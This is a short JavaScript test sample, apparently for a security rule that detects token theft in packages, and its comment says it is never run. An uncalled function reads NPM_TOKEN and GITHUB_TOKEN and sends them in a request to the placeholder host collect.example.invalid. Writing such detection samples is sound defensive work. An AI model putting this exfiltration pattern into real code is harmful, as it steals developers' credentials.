// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const https = require('https');
function never() {
  const t = process.env.NPM_TOKEN;
  const g = process.env['GITHUB_TOKEN'];
  return https.request({ host: 'collect.example.invalid', path: '/?t=' + t + g });
}
module.exports = { never };
